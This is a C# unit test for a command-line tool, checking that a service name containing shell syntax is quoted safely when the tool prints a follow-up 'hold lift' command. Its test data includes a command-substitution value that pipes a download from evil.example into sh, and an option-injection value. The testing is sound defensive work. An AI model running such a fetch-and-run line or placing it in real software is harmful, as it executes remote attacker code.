using FleetProf.Cli.Tests.Stub;

namespace FleetProf.Cli.Tests.Budgets;

public sealed class HoldCommandTests
{
    /// <summary>Who runs a process names it, and an admin pastes the command.</summary>
    [Theory]
    [InlineData("shop$(curl -s evil.example|sh)", "--service 'shop$(curl -s evil.example|sh)'")]
    [InlineData("--url=http://evil.example", "--service='--url=http://evil.example'")]
    public async Task Place_OnANameThatAShellWouldRun_QuotesItInTheWayToLift(string name, string option)
    {
        using var portal = new StubPortal().On("POST /api/v1/holds", Samples.Hold with { Service = name });

        var run = await CliRun.OfAsync(portal, "hold", "place", $"--service={name}", "--reason", "slow");

        Assert.Equal(ExitCode.Success, run.ExitCode);
        Assert.Contains($"`fleetprof hold lift {option} --reason TEXT`", run.Error, StringComparison.Ordinal);
    }
}
